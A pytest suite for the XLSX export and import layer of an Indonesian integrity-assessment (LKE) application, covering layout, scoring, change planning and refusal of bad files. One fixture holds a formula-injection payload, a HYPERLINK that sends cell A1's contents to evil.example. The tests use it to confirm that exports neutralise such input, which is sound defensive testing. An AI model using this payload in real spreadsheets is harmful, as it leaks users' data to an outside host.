"""The LKE XLSX layout: writing, reading back, planning an import (no database)."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.domain.lke import evaluate, score
from app.frameworks import default_framework_path
from app.services.lke import frameworks
from app.services.lke.xlsx_layout import (
    COLUMNS,
    ExportMeta,
    QuestionState,
    XlsxRefused,
    escape_text,
    plan_import,
    read_workbook,
    unescape_text,
    write_workbook,
)

MAX = 5 * 1024 * 1024
COL = {key: i for i, (key, _h, _w) in enumerate(COLUMNS, start=1)}
HEADER_ROW = 5
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.fixture(scope="module")
def fw():
    return frameworks.load_file(default_framework_path())


META = ExportMeta(
    assessment_id=7, unit_name="KPPN Uji", unit_code="UNIT-A1", year=2024, target="WBK",
    status="Draf", generated_at="01-03-2024 09:00",
)


def hand_filled() -> dict[str, QuestionState]:
    """A small hand-filled worksheet: PPA2 = Ya, C, C; PPA1 = Ya, B; PRA1A numeric; IPAK."""
    return {
        "PPA1A": QuestionState(option="Ya", explanation=INJECTION),
        "PPA1B": QuestionState(option="B", explanation="- poin satu\n- poin dua"),
        "PPA2A": QuestionState(option="Ya", explanation="SK tim nomor 12/2024",
                               evidence=("SK Tim (https://contoh.go.id/sk.pdf)",),
                               notes=("Kanwil: lengkapi notulen",)),
        "PPA2B": QuestionState(option="C"),
        "PPA2C": QuestionState(option="C"),
        "PRA1A": QuestionState(inputs={"change_agents": Decimal(10),
                                       "changes_made": Decimal(5)}),
        "HBA1A": QuestionState(index=Decimal("3.65")),
        "PPB1A": QuestionState(explanation="@SUM(1+1) hanya penjelasan"),
    }


def export(fw, states) -> bytes:
    report = score(fw, {r: s.answer for r, s in states.items() if s.answered})
    verdicts = [evaluate(fw, report, "WBK"), evaluate(fw, report, "WBBM")]
    return write_workbook(fw, report, states, META, verdicts)


def rows_by_ref(ws) -> dict[str, int]:
    out = {}
    for r in range(HEADER_ROW + 1, ws.max_row + 1):
        ref = ws.cell(row=r, column=COL["ref"]).value
        if ref:
            out[ref] = r
    return out


def edit(data: bytes, changes: dict[tuple[str, str], object]) -> bytes:
    """Change cells (ref, column key) -> value, as a person would in a spreadsheet."""
    wb = load_workbook(io.BytesIO(data))
    ws = wb["LKE"]
    where = rows_by_ref(ws)
    for (ref, key), value in changes.items():
        ws.cell(row=where[ref], column=COL[key]).value = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# --- escaping ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+62 811", "-5", "@SUM(A1)", "\tx", "\rx"])
def test_dangerous_text_is_prefixed_and_restored(text):
    escaped = escape_text(text)
    assert escaped == "'" + text
    assert unescape_text(escaped) == text


@pytest.mark.parametrize("text", ["Ya", "SK tim", "'quoted", "a=b", ""])
def test_harmless_text_is_unchanged(text):
    assert escape_text(text) == text
    assert unescape_text(text) == text


def test_illegal_control_characters_are_dropped():
    assert escape_text("a\x00b\x07c") == "abc"


# --- export --------------------------------------------------------------------------------


def test_export_layout_values_and_formats(fw):
    wb = load_workbook(io.BytesIO(export(fw, hand_filled())))
    assert wb.sheetnames == ["LKE", "Ringkasan", "Info"]
    assert wb["Info"].sheet_state == "hidden"
    ws = wb["LKE"]
    assert [ws.cell(row=HEADER_ROW, column=c).value for c in range(1, 11)] == [
        "Ref", "Penilaian", "Bobot", "Pilihan Jawaban", "Jawaban", "Nilai", "%", "Penjelasan",
        "Eviden", "Catatan Reviewer",
    ]
    assert ws.freeze_panes == "C6"
    assert ws.column_dimensions["B"].width == 60
    where = rows_by_ref(ws)
    # document order: total, component, part, area, sub-indicator, questions
    assert [ws.cell(row=HEADER_ROW + i, column=1).value for i in range(1, 8)] == [
        "TOTAL", "P", "PP", "PPA", "PPA1", "PPA1A", "PPA1B",
    ]
    # PPA2 weighs 1.00 with 3 questions: Ya, C, C = 1.00 x (1 + 0 + 0) / 3 = 0.33 (33.33 %)
    ppa2 = where["PPA2"]
    assert ws.cell(row=ppa2, column=COL["weight"]).value == 1
    assert ws.cell(row=ppa2, column=COL["score"]).value == pytest.approx(1 / 3, abs=1e-12)
    assert ws.cell(row=ppa2, column=COL["percent"]).value == pytest.approx(100 / 3, abs=1e-9)
    assert ws.cell(row=ppa2, column=COL["score"]).number_format == "0.00"
    assert ws.cell(row=ppa2, column=1).font.b  # hierarchy rows are bold
    assert not ws.cell(row=where["PPA2A"], column=1).font.b
    # a question: weight 1/3, answer letter, value x weight, percentage of its own weight
    q = where["PPA2A"]
    assert ws.cell(row=q, column=COL["weight"]).value == pytest.approx(1 / 3, abs=1e-12)
    assert ws.cell(row=q, column=COL["answer"]).value == "Ya"
    assert ws.cell(row=q, column=COL["score"]).value == pytest.approx(1 / 3, abs=1e-12)
    assert ws.cell(row=q, column=COL["percent"]).value == 100
    assert "Ya = " in ws.cell(row=q, column=COL["options"]).value
    assert ws.cell(row=q, column=COL["evidence"]).value == "SK Tim (https://contoh.go.id/sk.pdf)"
    assert ws.cell(row=q, column=COL["notes"]).value == "Kanwil: lengkapi notulen"
    # an unanswered question shows no score at all (not a made-up 0)
    assert ws.cell(row=where["PPA3A"], column=COL["score"]).value is None
    # numeric inputs: one row each, the number in Jawaban
    assert ws.cell(row=where["PRA1A.change_agents"], column=COL["answer"]).value == 10
    assert ws.cell(row=where["PRA1A.changes_made"], column=COL["answer"]).value == 5
    # IPAK index 3.65 -> 3.65 / 4 x 17.5 = 15.96875
    assert ws.cell(row=where["HBA1A"], column=COL["answer"]).value == 3.65
    assert ws.cell(row=where["HBA1A"], column=COL["score"]).value == pytest.approx(15.96875)


def test_export_summary_has_total_parts_areas_and_verdicts(fw):
    wb = load_workbook(io.BytesIO(export(fw, hand_filled())))
    ws = wb["Ringkasan"]
    cells = {ws.cell(row=r, column=1).value: r for r in range(1, ws.max_row + 1)}
    for ref in ("TOTAL", "P", "PP", "PR", "H", "HB", "HP", "PPA", "PRF"):
        assert ref in cells
    # total = PPA1 (0.5 x (1 + 0.5)/2 = 0.375) + PPA2 (1/3) + PRA1 (1.0 x 5/10 = 0.5)
    #         + IPAK 15.96875
    expected_total = 0.375 + 1 / 3 + 0.5 + 15.96875
    assert ws.cell(row=cells["TOTAL"], column=4).value == pytest.approx(expected_total)
    texts = [ws.cell(row=r, column=1).value for r in range(1, ws.max_row + 1)]
    assert "Predikat WBK: BELUM MEMENUHI SYARAT" in texts
    assert "Predikat WBBM: BELUM MEMENUHI SYARAT" in texts


def test_export_never_writes_a_formula(fw):
    data = export(fw, hand_filled())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    wb = load_workbook(io.BytesIO(data))
    ws = wb["LKE"]
    where = rows_by_ref(ws)
    cell = ws.cell(row=where["PPA1A"], column=COL["explanation"])
    assert cell.data_type == "s"
    assert cell.value == "'" + INJECTION
    assert ws.cell(row=where["PPB1A"], column=COL["explanation"]).value == (
        "'@SUM(1+1) hanya penjelasan"
    )
    assert ws.cell(row=where["PPA1B"], column=COL["explanation"]).value == (
        "'- poin satu\n- poin dua"
    )
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate)


# --- reading and planning ------------------------------------------------------------------


def test_round_trip_unchanged_file_plans_no_change(fw):
    states = hand_filled()
    parsed = read_workbook(export(fw, states), max_bytes=MAX)
    assert parsed.info["framework_code"] == fw.code
    plan = plan_import(fw, parsed, states, assessment_id=7)
    assert plan.problems == ()
    assert plan.changes == ()
    assert plan.questions_in_file == 113
    # 7 questions with an answer or penjelasan, and 105 with nothing: all "unchanged"
    assert plan.unchanged == 113
    assert plan.notes == ()


def test_modified_file_plan_lists_exactly_the_changes(fw):
    states = hand_filled()
    data = edit(export(fw, states), {
        ("PPA1B", "answer"): "a",  # B -> A (lower case accepted)
        ("PPA2C", "answer"): "B",  # C -> B
        ("PPA2C", "explanation"): "Notulen rapat ditambahkan",
        ("PPA4A", "answer"): "ya",  # unanswered -> Ya
        ("PRA1A.changes_made", "answer"): "7",  # 5 -> 7 (text digits)
        ("HBA1A", "answer"): "3,70",  # Indonesian decimal comma
        ("PPA2A", "explanation"): "  SK tim nomor 12/2024  ",  # same after trimming
    })
    plan = plan_import(fw, read_workbook(data, max_bytes=MAX), states, assessment_id=7)
    assert plan.problems == ()
    got = {
        c.ref: (c.old_answer, c.new_answer, c.answer_changed, c.explanation)
        for c in plan.changes
    }
    assert got == {
        "PPA1B": ("B", "A", True, None),
        "PPA2C": ("C", "B", True, "Notulen rapat ditambahkan"),
        "PPA4A": ("", "Ya", True, None),
        "PRA1A": (
            "Jumlah Agen Perubahan: 10; Jumlah Perubahan yang dibuat: 5",
            "Jumlah Agen Perubahan: 10; Jumlah Perubahan yang dibuat: 7",
            True, None,
        ),
        "HBA1A": ("3,65", "3,7", True, None),
    }
    by_ref = {c.ref: c for c in plan.changes}
    assert by_ref["PRA1A"].answer.inputs == {"change_agents": 10, "changes_made": 7}
    assert by_ref["HBA1A"].answer.index == Decimal("3.70")
    # the rows are the spreadsheet's own row numbers
    ws = load_workbook(io.BytesIO(data))["LKE"]
    assert by_ref["PPA1B"].row == rows_by_ref(ws)["PPA1B"]


def test_formula_typed_into_cells_is_read_as_plain_text(fw):
    states = hand_filled()
    data = edit(export(fw, states), {
        ("PPA3A", "explanation"): "=1+1",  # openpyxl stores this as a formula cell
        ("PPA3B", "answer"): "=A1",
    })
    plan = plan_import(fw, read_workbook(data, max_bytes=MAX), states, assessment_id=7)
    codes = ", ".join(fw.question("PPA3B").option_codes)
    assert [p.message for p in plan.problems] == [
        f"Pilihan '=A1' tidak tersedia untuk PPA3B (pilihan: {codes})."
    ]
    states_without_bad = dict(states)
    data = edit(export(fw, states_without_bad), {("PPA3A", "explanation"): "=1+1"})
    plan = plan_import(fw, read_workbook(data, max_bytes=MAX), states, assessment_id=7)
    assert plan.problems == ()
    assert [(c.ref, c.explanation) for c in plan.changes] == [("PPA3A", "=1+1")]


def test_bad_rows_are_reported_with_their_row_numbers(fw):
    states = hand_filled()
    base = export(fw, states)
    ws = load_workbook(io.BytesIO(base))["LKE"]
    where = rows_by_ref(ws)
    data = edit(base, {
        ("PPA1B", "answer"): "D",  # A-C question
        ("PPA2", "answer"): "A",  # a sub-indicator row
        ("PRA1A.change_agents", "answer"): "sepuluh",
        ("PRA1B.changes_made", "answer"): 4,
        ("PRA1B.changes_integrated", "answer"): -1,
        ("PRE3A.reported", "answer"): 50,  # more than must report (others blank -> partial)
        ("HPA1A", "answer"): 4.5,  # index above 4
    })
    wb = load_workbook(io.BytesIO(data))
    ws = wb["LKE"]
    ws.cell(row=where["PPA1A"], column=COL["ref"]).value = "PPZ9Z"  # unknown ref
    ws.cell(row=where["PPA3A"], column=COL["ref"]).value = "PPA2A"  # duplicate
    out = io.BytesIO()
    wb.save(out)
    plan = plan_import(fw, read_workbook(out.getvalue(), max_bytes=MAX), states,
                       assessment_id=7)
    got = [(p.row, p.ref, p.message) for p in plan.problems]
    pre3a = fw.question("PRE3A")
    expected = [
        (where["PPA1A"], "PPZ9Z", "Ref 'PPZ9Z' tidak dikenal dalam kerangka lke-zi-2021."),
        (where["PPA1B"], "PPA1B", "Pilihan 'D' tidak tersedia untuk PPA1B (pilihan: A, B, C)."),
        (where["PPA2"], "PPA2", "PPA2 adalah baris sub-indikator; Jawaban dan Penjelasan "
                                "hanya diisi pada baris pertanyaan."),
        (where["PPA3A"], "PPA2A", f"Ref PPA2A muncul lebih dari sekali (juga di baris "
                                  f"{where['PPA2A']})."),
        (where["PRA1A.change_agents"], "PRA1A.change_agents",
         "isian 'Jumlah Agen Perubahan' untuk PRA1A harus berupa angka, bukan 'sepuluh'."),
        (where["PRA1B.changes_made"], "PRA1B",
         "Isian 'Jumlah Perubahan yang telah diintegrasikan dalam sistem manajemen' untuk "
         "PRA1B tidak boleh negatif"),
    ]
    for spec in pre3a.inputs:
        if spec.key != "reported":
            expected.append((
                where[f"PRE3A.{spec.key}"], f"PRE3A.{spec.key}",
                f"isian '{spec.label}' untuk PRE3A kosong; isi semua isian PRE3A atau "
                "kosongkan semuanya.",
            ))
    expected.append((where["HPA1A"], "HPA1A",
                     "Nilai indeks untuk HPA1A harus antara 1 dan 4, bukan 4,5"))
    assert got == sorted(expected, key=lambda p: (p[0], p[1]))
    assert not plan.ok


def test_inconsistent_inputs_use_the_framework_rule(fw):
    states = hand_filled()
    data = edit(export(fw, states), {
        ("PRE3A.must_head_of_unit", "answer"): 1,
        ("PRE3A.must_lhkpn_officials", "answer"): 2,
        ("PRE3A.must_others", "answer"): 0,
        ("PRE3A.reported", "answer"): 4,
    })
    plan = plan_import(fw, read_workbook(data, max_bytes=MAX), states, assessment_id=7)
    assert len(plan.problems) == 1
    assert plan.problems[0].message.endswith("(PRE3A: 4 > 3)")


def test_heading_rows_and_blank_rows_are_ignored(fw):
    states = hand_filled()
    data = edit(export(fw, states), {("PPA1A", "answer"): None, ("PPA1A", "explanation"): None})
    plan = plan_import(fw, read_workbook(data, max_bytes=MAX), states, assessment_id=7)
    # blank cells keep the stored answer and penjelasan
    assert plan.problems == () and plan.changes == ()


def test_framework_mismatch_and_other_assessment(fw):
    states = hand_filled()
    wb = load_workbook(io.BytesIO(export(fw, states)))
    info = wb["Info"]
    for r in range(1, info.max_row + 1):
        if info.cell(row=r, column=1).value == "framework_code":
            info.cell(row=r, column=2).value = "lke-zi-2030"
    out = io.BytesIO()
    wb.save(out)
    plan = plan_import(fw, read_workbook(out.getvalue(), max_bytes=MAX), states,
                       assessment_id=7)
    assert [p.message for p in plan.problems] == [
        "Berkas ini untuk kerangka lke-zi-2030, sedangkan penilaian ini memakai lke-zi-2021; "
        "impor dibatalkan."
    ]
    plan = plan_import(fw, read_workbook(export(fw, states), max_bytes=MAX), states,
                       assessment_id=8)
    assert plan.ok and plan.notes and "penilaian lain" in plan.notes[0]


def test_plan_hash_binds_file_and_stored_values(fw):
    states = hand_filled()
    data = edit(export(fw, states), {("PPA1B", "answer"): "A"})
    parsed = read_workbook(data, max_bytes=MAX)
    first = plan_import(fw, parsed, states, assessment_id=7)
    assert plan_import(fw, parsed, states, assessment_id=7).plan_hash == first.plan_hash
    moved = dict(states, PPA1B=QuestionState(option="C"))
    assert plan_import(fw, parsed, moved, assessment_id=7).plan_hash != first.plan_hash
    assert plan_import(fw, parsed, states, assessment_id=8).plan_hash != first.plan_hash


# --- refusals ------------------------------------------------------------------------------


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "Berkas kosong."),
        (b"%PDF-1.7\n...", "Berkas bukan XLSX (Buku Kerja Excel .xlsx)."),
        (b"ref;jawaban\nPPA1A;Ya\n", "Berkas bukan XLSX (Buku Kerja Excel .xlsx)."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "format Excel lama (.xls)"),
        (_zip({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<x/>"}),
         "Berkas bukan XLSX (Buku Kerja Excel .xlsx)."),
        (b"PK\x03\x04garbage", "Berkas XLSX rusak atau tidak dapat dibaca."),
        (_zip({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>",
               "xl/big.xml": b"0" * (61 * 1024 * 1024)}),
         "Isi berkas XLSX terlalu besar setelah diekstrak."),
        (_zip({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"not xml"}),
         "Berkas XLSX rusak atau tidak dapat dibaca."),
    ],
)
def test_refused_files(data, message):
    with pytest.raises(XlsxRefused) as exc:
        read_workbook(data, max_bytes=MAX)
    assert message in exc.value.message


def test_too_large_file_is_refused(fw):
    data = export(fw, hand_filled())
    with pytest.raises(XlsxRefused) as exc:
        read_workbook(data, max_bytes=len(data) - 1)
    assert "Berkas terlalu besar" in exc.value.message


def test_workbook_without_the_lke_header_is_refused():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "Nama"
    wb.active["B1"] = "Nilai"
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(XlsxRefused) as exc:
        read_workbook(out.getvalue(), max_bytes=MAX)
    assert "Lembar LKE tidak ditemukan" in exc.value.message


def test_hand_made_sheet_with_moved_columns_is_read(fw):
    """A sheet typed by hand (no Info sheet), columns in another order, still imports."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["Penjelasan", "Jawaban", "Ref"])
    ws.append(["Sudah ada SK", "Ya", "PPA1A"])
    ws.append([None, "c", "PPA1B"])
    out = io.BytesIO()
    wb.save(out)
    plan = plan_import(fw, read_workbook(out.getvalue(), max_bytes=MAX), {}, assessment_id=1)
    assert plan.ok
    assert [(c.ref, c.row, c.new_answer, c.explanation) for c in plan.changes] == [
        ("PPA1A", 2, "Ya", "Sudah ada SK"), ("PPA1B", 3, "C", None),
    ]
